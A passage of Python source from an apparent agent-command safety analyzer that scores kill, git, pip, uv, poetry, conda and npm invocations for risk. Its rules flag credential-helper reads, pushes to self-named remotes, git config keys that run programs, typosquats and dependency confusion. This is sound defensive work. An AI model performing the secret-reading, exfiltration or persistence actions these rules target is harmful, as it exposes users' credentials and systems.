        K.PERSISTENCE,
        80,
        f"`launchctl {' '.join(vals[:2])}` installs or changes a service that starts on its own",
        c.span,
    )


_SYSTEM_PROCS = re.compile(
    r"\b(sshd|systemd|init|dockerd|containerd|kubelet|Xorg|Xwayland|gnome-shell|kwin|"
    r"sddm|gdm|lightdm|NetworkManager|dbus|journald|rsyslogd|auditd|firewalld|cron|crond|"
    r"polkitd|udevd|login|agetty|launchd|WindowServer|loginwindow|tmux|screen)\b"
)


def h_kill(an: Analyzer, c: SimpleCommand) -> None:
    name = c.name or ""
    vals = [w.value or "" for w in c.args]
    cmds = an.script.commands
    fed = [cmds[i] for w in c.args for i in w.subs]
    fed_text = " ".join(w.best for f in fed for w in f.argv if f.name in ("pgrep", "pidof"))
    patterns = " ".join(v for v in vals if not v.startswith("-")) if name != "kill" else fed_text
    m = _SYSTEM_PROCS.search(patterns)
    if m:
        an.add(
            K.DESTRUCTIVE,
            75,
            f"kills {m.group(1)}, a system service (logins, the desktop "
            "or the machine's plumbing depend on it)",
            c.span,
        )
        return
    if name == "kill" and fed and not fed_text:
        an.add(K.DESTRUCTIVE, 45, "stops processes chosen at run time", c.span)
        return
    pos = [v for v in vals if not v.startswith("-") or (re.fullmatch(r"-\d+", v) and v != vals[0])]
    if name == "kill":
        targets = [v for v in vals if re.fullmatch(r"-?\d+|%\S*", v)]
        sig_first = vals and re.fullmatch(r"-(\d+|[A-Z]+|s|n)", vals[0]) is not None
        if sig_first and targets and targets[0] == vals[0]:
            targets = targets[1:]
        if any(t in ("-1", "1") for t in targets) or any(
            t.startswith("-") and t != "-1" for t in targets
        ):
            an.add(
                K.DESTRUCTIVE,
                85,
                "kills every process it can reach (kill -1 / a process group)",
                c.span,
            )
            return
        if targets and all(t.startswith("%") for t in targets):
            an.add(K.RESOURCE, 10, "stops a job this shell started", c.span)
            return
        if "-l" in vals or "-L" in vals:
            return
        an.add(
            K.DESTRUCTIVE,
            40,
            f"stops process {' '.join(targets) or '?'}, which may not belong to this task",
            c.span,
        )
        return
    if name == "killall5":
        an.add(K.DESTRUCTIVE, 90, "kills every process on the machine", c.span)
        return
    if any(v in ("-u", "--user", "-U") for v in vals) or (
        name == "pkill" and any(v in (".", ".*", "") for v in pos)
    ):
        an.add(K.DESTRUCTIVE, 75, "kills every process of a user", c.span)
        return
    an.add(
        K.DESTRUCTIVE,
        40,
        f"`{name}` stops processes matching {q(' '.join(pos[:2]) or '?')}, "
        "which may not belong to this task",
        c.span,
    )


# --------------------------------------------------------------------------- git


_GIT_EXEC_KEYS = re.compile(
    r"^(core\.(hookspath|sshcommand|pager|editor|fsmonitor|askpass|gitproxy|worktree)|"
    r"credential\..*|alias\..*|diff\..*\.(command|textconv)|filter\..*|gpg\..*program|"
    r"sequence\.editor|url\..*\.(insteadof|pushinsteadof)|http\..*proxy|include\.path|"
    r"includeif\..*|uploadpack\.packobjectshook|merge\..*\.driver|pager\..*|"
    r"protocol\..*\.allow|remote\..*\.(url|pushurl|uploadpack|receivepack)|"
    r"sendemail\..*|web\.browser|browser\..*\.cmd|difftool\..*\.cmd|mergetool\..*\.cmd|"
    r"init\.templatedir|safe\.directory|core\.sharedrepository)$",
    re.I,
)
_GIT_READ = frozenset(
    [
        "status",
        "diff",
        "log",
        "show",
        "blame",
        "branch",
        "tag",
        "describe",
        "rev-parse",
        "ls-files",
        "ls-tree",
        "cat-file",
        "shortlog",
        "reflog",
        "grep",
        "whatchanged",
        "name-rev",
        "merge-base",
        "count-objects",
        "fsck",
        "help",
        "version",
        "worktree",
        "check-ignore",
        "check-attr",
        "var",
        "rev-list",
        "for-each-ref",
        "show-ref",
        "show-branch",
        "cherry",
        "range-diff",
        "diff-tree",
        "diff-files",
        "diff-index",
        "annotate",
        "verify-commit",
        "verify-tag",
        "archive",
        "format-patch",
        "bugreport",
    ]
)
_GIT_LOCAL = frozenset(
    [
        "add",
        "rm",
        "commit",
        "checkout",
        "switch",
        "restore",
        "stash",
        "merge",
        "cherry-pick",
        "revert",
        "mv",
        "init",
        "apply",
        "am",
        "bisect",
        "notes",
        "sparse-checkout",
        "mergetool",
        "difftool",
        "rerere",
        "gc",
        "prune",
        "repack",
        "maintenance",
        "commit-tree",
        "update-index",
        "write-tree",
        "read-tree",
        "hash-object",
        "symbolic-ref",
        "pack-refs",
        "citool",
        "gui",
        "stage",
    ]
)
_GIT_NET = frozenset(
    [
        "push",
        "pull",
        "fetch",
        "clone",
        "ls-remote",
        "submodule",
        "remote",
        "request-pull",
        "send-email",
        "lfs",
        "svn",
        "p4",
        "archive-remote",
    ]
)
_PROTECTED_BRANCH = re.compile(
    r"^(\+)?(refs/heads/)?(main|master|release.*|prod.*|production|"
    r"stable|trunk|develop)$"
)


def h_git(an: Analyzer, c: SimpleCommand) -> None:
    args = list(c.args)
    # global options before the subcommand
    i = 0
    while i < len(args):
        v = args[i].value or ""
        if v == "-c" and i + 1 < len(args):
            kv = args[i + 1].value or ""
            key = kv.split("=", 1)[0]
            if _GIT_EXEC_KEYS.match(key):
                an.add(
                    K.PRIVILEGE,
                    65,
                    f"runs git with {q(kv)}, which makes git run a program",
                    args[i + 1].span,
                )
                if "=" in kv:
                    code = kv.split("=", 1)[1].lstrip("!")
                    if code:
                        an.fragment(code, None, args[i + 1].span, c, prefix="via git -c: ")
            i += 2
            continue
        if v in ("-C", "--git-dir", "--work-tree", "--namespace", "--exec-path") and i + 1 < len(
            args
        ):
            if v in ("-C", "--work-tree", "--git-dir"):
                info = an.path(c, args[i + 1].value or ".")
                if info.where == "outside":
                    an.add(
                        K.OUTSIDE_WORKSPACE,
                        30,
                        f"runs git on {info.display}, outside the workspace",
                        args[i + 1].span,
                    )
            i += 2
            continue
        if v.startswith("-"):
            i += 1
            continue
        break
    if i >= len(args):
        return
    sub_w = args[i]
    sub = sub_w.value or ""
    rest = args[i + 1 :]
    rv = [w.value or "" for w in rest]
    if sub not in ("show", "cat-file", "diff", "log", "blame", "grep", "archive", "format-patch"):
        # Paths given to git here are tracked or untracked names, not contents read.
        an.ci(c).seen.update(w.span for w in rest)
        if sub == "add":
            for w in rest:
                p = an.path(c, w.value) if w.value and not w.value.startswith("-") else None
                if p is not None and p.secret:
                    an.add(
                        K.SECRETS,
                        45,
                        f"stages {p.display} ({p.secret}) for commit, where "
                        "it would be kept and pushed",
                        w.span,
                    )
    if sub == "config":
        _git_config(an, c, rest)
        return
    if sub in ("push",):
        an.ci(c).network = True
        force = any(
            v in ("-f", "--force", "--force-with-lease", "--force-if-includes", "--mirror")
            or v.startswith("--force-with-lease")
            for v in rv
        ) or any(v.startswith("+") for v in rv if not v.startswith("-"))
        delete = any(v in ("-d", "--delete", "--prune") for v in rv) or any(
            v.startswith(":") and len(v) > 1 for v in rv
        )
        pos = [v for v in rv if not v.startswith("-")]
        branches = pos[1:] if len(pos) > 1 else []
        protected = any(_PROTECTED_BRANCH.match(b.split(":")[-1]) for b in branches)
        fresh = pos[0] if pos and pos[0] in an.git_remotes else None
        if (fresh is None and pos and "://" in pos[0]) or (
            pos and re.match(r"^[\w.-]+@[\w.-]+:", pos[0])
        ):
            fresh = pos[0]
        if fresh is not None:
            url = an.git_remotes.get(fresh, fresh)
            an.add(
                K.EXFILTRATION,
                70,
                f"pushes the repository to {short(url)}, a remote this action names itself",
                c.span,
            )
        if force:
            an.add(
                K.DESTRUCTIVE,
                75 if protected or not branches else 65,
                "force-pushes, overwriting history on the remote"
                + (f" ({', '.join(branches)})" if branches else ""),
                c.span,
            )
        elif delete:
            an.add(K.DESTRUCTIVE, 60, "deletes branches or tags on the remote", c.span)
        elif "--tags" in rv or "--all" in rv:
            an.add(K.NETWORK, 45, "publishes all branches or tags to the remote", c.span)
        else:
            an.add(
                K.NETWORK,
                40,
                f"publishes commits to {pos[0] if pos else 'the remote'}"
                + (f" ({', '.join(branches)})" if branches else ""),
                c.span,
            )
        an.facts.sends_data.append("git remote")
        return
    if sub in _GIT_NET:
        an.ci(c).network = True
        if sub == "remote" and (not rv or (rv[0] in ("-v", "show", "get-url") and rv[0] != "show")):
            an.add(K.RESOURCE, 0, "lists git remotes", c.span)
            return
        if sub == "remote" and len(rv) >= 3 and rv[0] in ("add", "set-url"):
            an.git_remotes[rv[1]] = rv[2]
        if sub == "remote" and rv and rv[0] in ("add", "set-url", "rename", "remove", "rm"):
            an.add(
                K.NETWORK, 40, f"changes where git pushes and pulls ({' '.join(rv[:3])})", c.span
            )
            return
        if sub == "send-email":
            an.add(K.EXFILTRATION, 60, "emails patches out", c.span)
            return
        if sub == "clone":
            pw = [w for w in rest if not (w.value or "").startswith("-")]
            src = pw[0].best if pw else "a repository"
            an.add(K.NETWORK, 40, f"downloads the repository {short(src, 60)}", c.span)
            if len(pw) >= 2:
                write_target(an, c, pw[1], "clones into")
            if any(v.startswith("--recurse") or v == "--config" or v == "-c" for v in rv):
                an.add(K.SUPPLY_CHAIN, 10, "also fetches submodules", c.span)
            return
        an.add(K.NETWORK, 40, f"`git {sub}` talks to the remote", c.span)
        return
    if sub in ("reset",):
        if "--hard" in rv or "--merge" in rv or "--keep" in rv:
            an.add(
                K.DESTRUCTIVE,
                45,
                "resets the working tree, discarding uncommitted changes"
                + (" and commits" if any("~" in v or "^" in v for v in rv) else ""),
                c.span,
            )
        elif any("~" in v or "^" in v or re.fullmatch(r"[0-9a-f]{7,40}", v) for v in rv):
            an.add(K.DESTRUCTIVE, 36, "moves the branch back, rewriting history", c.span)
        else:
            an.add(K.DESTRUCTIVE, 10, "unstages changes", c.span)
        return
    if sub in ("rebase",):
        an.add(K.DESTRUCTIVE, 40, "rewrites commit history (rebase)", c.span)
        return
    if sub in ("filter-branch", "filter-repo", "replace"):
        an.add(K.DESTRUCTIVE, 60, f"rewrites the whole history (`git {sub}`)", c.span)
        return
    if sub == "clean":
        if any(
            re.fullmatch(r"-[a-zA-Z]*[fF][a-zA-Z]*", v) or v == "--force" for v in rv
        ) and not any(re.fullmatch(r"-[a-zA-Z]*n[a-zA-Z]*", v) or v == "--dry-run" for v in rv):
            an.add(
                K.DESTRUCTIVE,
                45,
                "deletes untracked files"
                + (
                    " including ignored ones"
                    if any("x" in v and v.startswith("-") for v in rv)
                    else ""
                ),
                c.span,
            )
        return
    if sub == "commit" and "--amend" in rv:
        an.add(K.DESTRUCTIVE, 36, "rewrites the last commit (--amend)", c.span)
        return
    if sub in ("checkout", "restore"):
        pos = [v for v in rv if not v.startswith("-")]
        discards = (
            ("--" in rv and (sub == "checkout"))
            or "-f" in rv
            or "--force" in rv
            or (sub == "restore" and "--staged" not in rv and "-S" not in rv)
            or (sub == "checkout" and pos and pos[-1] in (".", "*", ":/"))
        )
        if discards and (pos or "-f" in rv or "--force" in rv):
            an.add(
                K.DESTRUCTIVE,
                40,
                "discards uncommitted changes to " + (", ".join(pos[:3]) or "the working tree"),
                c.span,
            )
        else:
            an.add(
                K.DESTRUCTIVE, 8, f"git {sub}: switches branches or files in the workspace", c.span
            )
        return
    if sub == "stash" and rv and rv[0] in ("drop", "clear"):
        an.add(K.DESTRUCTIVE, 40, f"deletes stashed changes (`git stash {rv[0]}`)", c.span)
        return
    if sub == "branch" and any(v in ("-D", "-d", "--delete") or v.startswith("-D") for v in rv):
        an.add(
            K.DESTRUCTIVE,
            40 if any(v.startswith("-D") or "--force" in v for v in rv) else 36,
            "deletes branches",
            c.span,
        )
        return
    if sub == "branch" and any(v in ("-f", "--force", "-M") for v in rv):
        an.add(K.DESTRUCTIVE, 36, "force-moves or renames a branch", c.span)
        return
    if sub == "tag" and any(v in ("-d", "--delete", "-f", "--force") for v in rv):
        an.add(K.DESTRUCTIVE, 36, "deletes or moves tags", c.span)
        return
    if sub == "rm" and "--cached" not in rv:
        an.add(K.DESTRUCTIVE, 36, "deletes tracked files (`git rm`)", c.span)
        return
    if sub in ("reflog",) and rv and rv[0] in ("expire", "delete"):
        an.add(
            K.DESTRUCTIVE,
            55,
            "drops entries from the reflog (lost commits cannot be recovered)",
            c.span,
        )
        return
    if sub in ("update-ref",) and "-d" in rv:
        an.add(K.DESTRUCTIVE, 45, "deletes a ref", c.span)
        return
    if sub in ("gc", "prune") and any("now" in v or "--aggressive" in v for v in rv):
        an.add(K.DESTRUCTIVE, 30, "prunes unreachable objects now", c.span)
        return
    if sub == "worktree" and rv and rv[0] in ("add",):
        pw = [w for w in rest[1:] if not (w.value or "").startswith("-")]
        if pw:
            write_target(an, c, pw[0], "creates a worktree at")
        return
    if sub in _GIT_READ:
        if sub == "archive":
            for k, v in enumerate(rv):
                if v in ("-o", "--output") and k + 1 < len(rest):
                    write_target(an, c, rest[k + 1])
                if v.startswith("--remote"):
                    an.add(K.NETWORK, 40, "fetches an archive from a remote", c.span)
        if sub == "format-patch":
            for k, v in enumerate(rv):
                if v in ("-o", "--output-directory") and k + 1 < len(rest):
                    write_target(an, c, rest[k + 1])
        if sub in ("log", "show", "diff", "format-patch", "archive") and (
            "-p" in rv or sub in ("show", "diff", "format-patch", "archive") or "--patch" in rv
        ):
            an.ci(c).reads_data = True
        if sub == "log":
            an.ci(c).reads_data = True
        return
    if sub in _GIT_LOCAL:
        an.add(K.DESTRUCTIVE, 8, f"git {sub}: changes the repository in the workspace", sub_w.span)
        return
    if sub.startswith("credential") and any(
        w.value in ("fill", "get") for w in c.args if w.span[0] > sub_w.span[0]
    ):
        an.ci(c).secrets.append("saved git credentials")
        an.facts.reads_secrets.append("saved git credentials")
        an.add(
            K.SECRETS,
            80,
            "asks git's credential helper for a saved password or token: it would reach the "
            "agent and its model provider",
            c.span,
        )
        return
    an.add(K.RESOURCE, 20, f"runs `git {sub}`, a git command lockgate has no rule for", sub_w.span)


def _git_config(an: Analyzer, c: SimpleCommand, rest: list[Word]) -> None:
    rv = [w.value or "" for w in rest]
    scope_global = any(v in ("--global", "--system") for v in rv)
    file_w = None
    for k, v in enumerate(rv):
        if v in ("-f", "--file") and k + 1 < len(rest):
            file_w = rest[k + 1]
    pos = [w for w in rest if not (w.value or "").startswith("-")]
    if file_w is not None and file_w in pos:
        pos.remove(file_w)
    reading = (
        any(
            v
            in (
                "--get",
                "--get-all",
                "--list",
                "-l",
                "--get-regexp",
                "--show-origin",
                "--get-urlmatch",
                "--show-scope",
            )
            for v in rv
        )
        or len(pos) <= 1
    )
    if reading and not any(
        v
        in (
            "--unset",
            "--unset-all",
            "--add",
            "--replace-all",
            "--remove-section",
            "--rename-section",
            "-e",
            "--edit",
        )
        for v in rv
    ):
        return
    key = (pos[0].value or "") if pos else ""
    value = " ".join(w.best for w in pos[1:])
    where = "your global git configuration" if scope_global else "the repository's git config"
    if _GIT_EXEC_KEYS.match(key):
        an.add(
            K.PERSISTENCE,
            85 if scope_global else 75,
            f"sets {key} = {short(value, 40)} in {where}: git will run it later, outside "
            "the sandbox",
            *(w.span for w in pos),
        )
        if value and re.search(
            r"pager|editor|sshcommand|askpass|fsmonitor|alias|command|"
            r"textconv|program|clean|smudge|process",
            key,
            re.I,
        ):
            an.fragment(
                value.lstrip("!"),
                None,
                pos[1].span if len(pos) > 1 else c.span,
                c,
                prefix=f"via git {key}: ",
            )
        return
    if scope_global:
        an.add(K.OUTSIDE_WORKSPACE, 40, f"changes {where} ({key})", c.span)
    elif file_w is not None:
        write_target(an, c, file_w, "changes the git config file")
    else:
        an.add(K.DESTRUCTIVE, 10, f"changes {where} ({key})", c.span)


# --------------------------------------------------------------------------- packages


_PIP_VALUES = frozenset(
    {
        "-r",
        "--requirement",
        "-c",
        "--constraint",
        "-e",
        "--editable",
        "-i",
        "--index-url",
        "--extra-index-url",
        "-f",
        "--find-links",
        "--trusted-host",
        "-t",
        "--target",
        "--prefix",
        "--root",
        "--src",
        "--upgrade-strategy",
        "--python-version",
        "--platform",
        "--only-binary",
        "--no-binary",
        "--progress-bar",
        "--log",
        "--cache-dir",
        "--proxy",
        "--implementation",
        "--abi",
        "--python",
        "-p",
        "--index",
        "--default-index",
        "--group",
        "--extra",
        "--config-settings",
        "-C",
        "--retries",
        "--timeout",
        "--exists-action",
        "--report",
        "--path",
        "--root-user-action",
        "--with",
        "--from",
        "--global-option",
        "--install-option",
        "--cert",
        "--client-cert",
        "--keyring-provider",
        "--resolution",
        "--prerelease",
        "--dev",
        "--optional",
        "-G",
        "--source",
        "-E",
        "--extras",
        "--directory",
        "--project",
        "--package",
        "--upgrade-package",
        "-P",
    }
)
_NPM_VALUES = frozenset(
    {
        "--registry",
        "--prefix",
        "-C",
        "--save-prefix",
        "--tag",
        "--cache",
        "--userconfig",
        "--workspace",
        "-w",
        "--omit",
        "--include",
        "--loglevel",
        "--otp",
        "--access",
        "--filter",
        "--dir",
        "-p",
        "--package",
        "--scope",
        "--network-timeout",
        "--cwd",
        "--modules-folder",
        "--mutex",
    }
)
_NAME_RE = re.compile(r"^(@[A-Za-z0-9][\w.-]*/)?[A-Za-z0-9][\w.\-]*")


def _pkg_findings(
    an: Analyzer,
    c: SimpleCommand,
    specs: list[Word],
    eco: Ecosystem | None,
    mgr: str,
    *,
    runs: bool = False,
) -> None:
    """Per package: typosquats, URL/VCS/path installs, look-alike characters."""
    verb = "downloads and runs" if runs else "installs"
    plain: list[Word] = []
    for w in specs:
        v = w.value
        if v is None:
            an.add(
                K.SUPPLY_CHAIN,
                50,
                f"{verb} a package whose name is known only at run time ({q(w.text)})",
                w.span,
            )
            continue
        if re.match(
            r"^(git\+|hg\+|svn\+|bzr\+)|^[a-z]+://|^git@|^github:|^gitlab:|^bitbucket:", v
        ) or (
            "/" in v
            and eco == "npm"
            and not v.startswith("@")
            and not v.startswith((".", "/", "~"))
            and ":" not in v
        ):
            an.add(
                K.SUPPLY_CHAIN,
                70 if v.startswith("http://") else 60,
                f"{verb} {short(v)} straight from a URL or repository, bypassing the package "
                "index and its checks",
                w.span,
            )
            t = parse_target(v.split("+", 1)[-1]) if "://" in v else None
            if t is not None:
                an.facts.hosts.append(t.host)
            continue
        if (
            v.startswith((".", "/", "~"))
            or v.endswith((".whl", ".tar.gz", ".zip", ".tgz"))
            or ("@" in v and " @ " in v)
        ):
            info = an.path(c, v.split("[", 1)[0])
            where = "the local project" if info.where == "workspace" else info.display
            an.add(
                K.SUPPLY_CHAIN,
                36 if info.where == "workspace" else 50,
                f"{verb} {where} (its build and install code runs)",
                w.span,
            )
            continue
        m = _NAME_RE.match(v)
        if not m:
            continue
        plain.append(w)
        name = m.group(0)
        if "==" in name:
            name = name.split("==", 1)[0]
        if eco in ("npm", "crates") and "@" in name[1:]:
            name = name[0] + name[1:].split("@", 1)[0]
        if not name.isascii():
            continue  # deception.py names the look-alike characters
        if eco is None:
            continue
        pop = popular(eco)
        squat = pop.check(name)
        reg = REGISTRY[eco]
        if squat is not None:
            an.add(
                K.SUPPLY_CHAIN,
                squat.score,
                f"{verb} '{name}', which {squat.how} — a likely typosquat on {reg}",
                w.span,
            )
        elif name not in pop:
            an.add(
                K.SUPPLY_CHAIN,
                45,
                f"{verb} '{name}', which is not among the popular {reg} packages lockgate knows",
                w.span,
            )
    if plain:
        names = ", ".join(q(w) for w in plain[:4]) + ("…" if len(plain) > 4 else "")
        an.add(
            K.SUPPLY_CHAIN,
            40,
            f"{verb} {names} with {mgr}: package code runs at install and later",
            *(w.span for w in plain),
        )


def _index_options(an: Analyzer, opts: dict[str, Word | None], mgr: str) -> None:
    for k in (
        "-i",
        "--index-url",
        "--extra-index-url",
        "--index",
        "--default-index",
        "-f",
        "--find-links",
        "--registry",
        "--trusted-host",
        "--source",
    ):
        w = opts.get(k)
        if w is None:
            continue
        v = w.value or w.text
        t = parse_target(v)
        default = t is not None and t.host in (
            "pypi.org",
            "files.pythonhosted.org",
            "registry.npmjs.org",
            "registry.yarnpkg.com",
        )
        if default:
            continue
        extra = k == "--extra-index-url"
        score = 70
        if v.startswith("http://") or k == "--trusted-host":
            score += 5
        how = "also looks for packages at" if extra else "installs packages from"
        an.add(
            K.SUPPLY_CHAIN,
            score,
            f"{mgr} {how} {short(v)} instead of the official index"
            + (" (dependency confusion)" if extra else "")
            + (" over plain http" if v.startswith("http://") else ""),
            w.span,
        )
        if t is not None:
            an.facts.hosts.append(t.host)


def h_pip(an: Analyzer, c: SimpleCommand, argv: list[Word] | None = None) -> None:
    args = argv if argv is not None else list(c.args)
    if not args:
        return
    sub = args[0].value or ""
    rest = args[1:]
    opts, pos = split_args(rest, _PIP_VALUES)
    mgr = "pip"
    if sub in ("install", "download", "wheel"):
        an.ci(c).network = True
        _index_options(an, opts, mgr)
        for k in ("-r", "--requirement", "-c", "--constraint"):
            w = opts.get(k)
            if w is not None:
                an.add(K.SUPPLY_CHAIN, 40, f"installs the packages listed in {q(w)}", w.span)
        e = val(opts, "-e", "--editable")
        if e is not None:
            _pkg_findings(an, c, [e], "pypi", mgr)
        tgt = val(opts, "-t", "--target", "--prefix", "--root")
        if tgt is not None:
            write_target(an, c, tgt, "installs into")
        if has(opts, "--break-system-packages"):
            an.add(
                K.SUPPLY_CHAIN,
                45,
                "installs into the system Python (--break-system-packages)",
                c.span,
            )
        _pkg_findings(an, c, pos, "pypi", mgr)
        if not pos and e is None and not has(opts, "-r", "--requirement"):
            an.add(K.SUPPLY_CHAIN, 36, "runs pip install", c.span)
        return
    if sub in ("uninstall",):
        an.add(K.DESTRUCTIVE, 36, f"uninstalls {', '.join(w.best for w in pos[:3])}", c.span)
        return
    if sub == "config" and rest and rest[0].value in ("set", "edit", "unset"):
        an.add(
            K.SUPPLY_CHAIN, 70, "changes pip's configuration (package index, trusted hosts)", c.span
        )
        return
    if sub == "config":
        return
    if sub in (
        "list",
        "show",
        "freeze",
        "check",
        "help",
        "--version",
        "-V",
        "debug",
        "cache",
        "inspect",
        "hash",
        "index",
        "search",
    ):
        return
    an.add(K.SUPPLY_CHAIN, 36, f"runs `pip {sub}`", c.span)


def h_uv(an: Analyzer, c: SimpleCommand) -> None:
    args = list(c.args)
    if not args:
        return
    sub = args[0].value or ""
    if sub == "pip":
        h_pip(an, c, args[1:])
        return
    opts, pos = split_args(args[1:], _PIP_VALUES)
    if sub in (
        "add",
        "sync",
        "lock",
        "tool",
        "run",
        "venv",
        "init",
        "remove",
        "export",
        "tree",
        "build",
        "publish",
        "python",
        "cache",
        "self",
        "version",
        "help",
    ):
        if sub == "add":
            _index_options(an, opts, "uv")
            _pkg_findings(an, c, pos, "pypi", "uv")
        elif sub == "tool" and pos and pos[0].value in ("install", "run", "upgrade"):
            _pkg_findings(an, c, pos[1:2], "pypi", "uv tool", runs=pos[0].value == "run")
        elif sub in ("sync", "lock"):
            an.add(
                K.SUPPLY_CHAIN,
                36,
                f"`uv {sub}` downloads and installs the project's dependencies",
                c.span,
            )
        elif sub == "publish":
            an.add(K.EXFILTRATION, 55, "publishes the package to an index", c.span)
        elif sub == "run":
            with_w = [w for k, w in opts.items() if k in ("--with",) and w is not None]
            if with_w:
                _pkg_findings(an, c, with_w, "pypi", "uv run --with")
            an.add(K.RESOURCE, 5, "runs a command in the project's environment", c.span)
            # `uv run CMD …`: the command itself
            if pos:
                an.fragment(
                    " ".join(w.best for w in pos),
                    None,
                    (pos[0].span[0], pos[-1].span[1]),
                    c,
                    prefix="uv run: ",
                )
        elif sub == "remove":
            an.add(K.DESTRUCTIVE, 20, "removes a dependency from the project", c.span)
        elif sub == "python" and pos and pos[0].value == "install":
            an.add(K.SUPPLY_CHAIN, 36, "downloads a Python interpreter", c.span)
        elif sub == "build":
            an.add(K.RESOURCE, 10, "builds the package (runs its build backend)", c.span)
        return
    an.add(K.SUPPLY_CHAIN, 20, f"runs `uv {sub}`", c.span)


def h_uvx(an: Analyzer, c: SimpleCommand) -> None:
    opts, pos = split_args(c.args, _PIP_VALUES)
    frm = val(opts, "--from")
    _pkg_findings(an, c, [frm] if frm is not None else pos[:1], "pypi", c.name or "uvx", runs=True)
    an.ci(c).network = True


def h_pipx(an: Analyzer, c: SimpleCommand) -> None:
    args = list(c.args)
    sub = args[0].value if args else ""
    opts, pos = split_args(args[1:], _PIP_VALUES | {"--spec", "--pip-args"})
    if sub in ("install", "run", "inject", "upgrade"):
        spec = val(opts, "--spec")
        _pkg_findings(
            an,
            c,
            [spec] if spec is not None else pos[: (2 if sub == "inject" else 1)],
            "pypi",
            "pipx",
            runs=sub == "run",
        )
        an.ci(c).network = True
    elif sub in ("uninstall", "uninstall-all"):
        an.add(K.DESTRUCTIVE, 36, "uninstalls pipx applications", c.span)


def h_poetry(an: Analyzer, c: SimpleCommand) -> None:
    args = list(c.args)
    sub = args[0].value if args else ""
    _opts, pos = split_args(args[1:], _PIP_VALUES)
    name = c.name or "poetry"
    if sub in ("add",):
        _pkg_findings(an, c, pos, "pypi", name)
    elif sub in ("install", "update", "lock", "sync"):
        an.add(
            K.SUPPLY_CHAIN,
            36,
            f"`{name} {sub}` downloads and installs the project's dependencies",
            c.span,
        )
    elif sub in ("publish",):
        an.add(K.EXFILTRATION, 55, "publishes the package to an index", c.span)
    elif sub in ("source",) or (
        sub == "config"
        and any("repositories" in (w.value or "") or "http-basic" in (w.value or "") for w in args)
    ):
        an.add(K.SUPPLY_CHAIN, 55, f"changes where {name} gets packages or its credentials", c.span)
    elif sub == "run" and pos:
        an.fragment(
            " ".join(w.best for w in pos),
            None,
            (pos[0].span[0], pos[-1].span[1]),
            c,
            prefix=f"{name} run: ",
        )
    elif sub == "remove":
        an.add(K.DESTRUCTIVE, 20, "removes a dependency from the project", c.span)


def h_conda(an: Analyzer, c: SimpleCommand) -> None:
    args = list(c.args)
    sub = args[0].value if args else ""
    opts, pos = split_args(
        args[1:], frozenset({"-c", "--channel", "-n", "--name", "-p", "--prefix", "--file"})
    )
    if sub in ("install", "create", "update", "upgrade"):
        ch = val(opts, "-c", "--channel")
        if ch is not None and ch.value not in (
            "conda-forge",
            "defaults",
            "bioconda",
            "pytorch",
            "nvidia",
        ):
            an.add(K.SUPPLY_CHAIN, 55, f"installs from the channel {q(ch)}", ch.span)
        _pkg_findings(an, c, pos, None, c.name or "conda")
        if not pos:
            an.add(K.SUPPLY_CHAIN, 36, f"`{c.name} {sub}` installs packages", c.span)
    elif sub in ("remove", "uninstall"):
        an.add(K.DESTRUCTIVE, 36, "removes packages", c.span)
    elif sub in ("env",) and len(args) > 1 and args[1].value in ("create", "update", "remove"):
        an.add(K.SUPPLY_CHAIN, 36, f"`{c.name} env {args[1].value}` changes environments", c.span)
    elif sub == "run":
        an.add(K.RESOURCE, 5, "runs a command in a conda environment", c.span)


def h_npm(an: Analyzer, c: SimpleCommand) -> None:
    name = c.name or "npm"
    args = list(c.args)
    opts, pos = split_args(args, _NPM_VALUES)
    if name in ("npx", "pnpx", "bunx") and pos:
        # npx's own options come before the tool's name; the ones after it are the tool's
        # (`npx tsc -p tsconfig.json` is tsc's --project, not npx's --package).
        first = pos[0].span[0]
        opts, head_pos = split_args([w for w in args if w.span[0] < first], _NPM_VALUES)
        pos = head_pos + [w for w in args if w.span[0] >= first]
    sub = pos[0].value if pos else ("install" if name == "yarn" and not args else "")
    if name == "yarn" and not pos and all((w.value or "").startswith("-") for w in args):
        sub = "install"
    rest = pos[1:]
    _index_options(an, opts, name)
    glob = has(opts, "-g", "--global", "--location")
    if sub in (
        "install",
        "i",
        "add",
        "isntall",
        "in",
        "ins",
        "inst",
        "insta",
        "instal",
        "ci",
        "update",
        "up",
        "upgrade",
        "ic",
        "install-clean",
        "install-test",
        "it",
    ):
        an.ci(c).network = True
        specs = rest if sub not in ("ci", "ic", "install-clean") else []
        _pkg_findings(an, c, specs, "npm", name)
        if not specs:
            an.add(
                K.SUPPLY_CHAIN,
                40,
                f"`{name} {sub}` installs the project's dependencies: their install scripts run",
                c.span,
            )
        if glob:
            an.add(K.OUTSIDE_WORKSPACE, 45, "installs globally, outside the workspace", c.span)
        if has(opts, "--unsafe-perm"):
            an.add(K.PRIVILEGE, 40, "lets install scripts run with full permissions", c.span)
        return
    if sub in ("exec", "x", "dlx") or name in ("npx", "pnpx", "bunx"):
        pk = val(opts, "-p", "--package")
        tool_w = pos[0] if name in ("npx", "pnpx", "bunx") and pos else (rest[0] if rest else None)
        tool = (tool_w.value or "") if tool_w is not None else ""
        if (
            pk is None
            and tool in NPX_LOCAL_TOOLS
            and not has(opts, "-y", "--yes")
            and tool_w is not None
        ):
            # The project's own dev tool: npx runs node_modules/.bin/<tool> when installed.
            tail = [tool_w, *[w for w in c.args if w.span[0] > tool_w.span[0]]]
            an.fragment(
                " ".join(w.best for w in tail),
                None,
                (tail[0].span[0], tail[-1].span[1]),
                c,
                prefix=f"{name}: ",
            )
            return
        an.ci(c).network = True
        specs = [pk] if pk is not None else (rest[:1] if sub in ("exec", "x", "dlx") else pos[:1])
        if name in ("npx", "pnpx", "bunx"):
            specs = [pk] if pk is not None else pos[:1]
        _pkg_findings(an, c, specs, "npm", name, runs=True)
        return
    if sub in (
        "publish",
        "unpublish",
        "deprecate",
        "dist-tag",
        "owner",
        "access",
        "team",
        "token",
        "adduser",
        "login",
        "logout",
        "star",
        "hook",
    ):
        cat = (
            K.EXFILTRATION
            if sub == "publish"
            else (K.SECRETS if sub in ("token", "login", "adduser") else K.DESTRUCTIVE)
        )
        an.add(cat, 55, f"`{name} {sub}` acts on the public registry with your account", c.span)
        return
    if sub in (
        "run",
        "run-script",
        "rum",
        "urn",
        "test",
        "t",
        "tst",
        "start",
        "stop",
        "restart",
        "build",
        "lint",
        "dev",
        "serve",
        "exec-script",
    ) or (
        name in ("yarn", "pnpm", "bun")
        and sub
        and sub
        not in (
            "remove",
            "link",
            "config",
            "set",
            "cache",
            "why",
            "list",
            "info",
            "outdated",
            "audit",
            "init",
            "create",
            "pack",
            "version",
            "help",
        )
    ):
        script = (
